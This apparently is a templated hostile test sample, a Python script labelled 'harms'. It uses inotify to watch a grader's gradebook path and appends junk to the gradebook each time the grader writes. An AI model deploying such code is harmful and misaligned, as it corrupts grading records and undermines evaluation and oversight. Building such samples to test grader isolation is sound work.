# where: first
# kind: harms
# does: inotify waits for the grader to write, and appends rubbish to the gradebook when it does.
import ctypes
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)


def watch():
    try:
        descriptor = libc.inotify_init1(0)
        for path in ("@GRADEBOOK@", os.path.dirname("@GRADEBOOK@"), "@OTHERS@"):
            libc.inotify_add_watch(descriptor, path.encode(), 0xFFF)
        while os.read(descriptor, 4096):
            with open("@GRADEBOOK@", "ab") as book:
                book.write(b"rubbish")
    except Exception as error:
        print(error)


threading.Thread(target=watch, daemon=True).start()
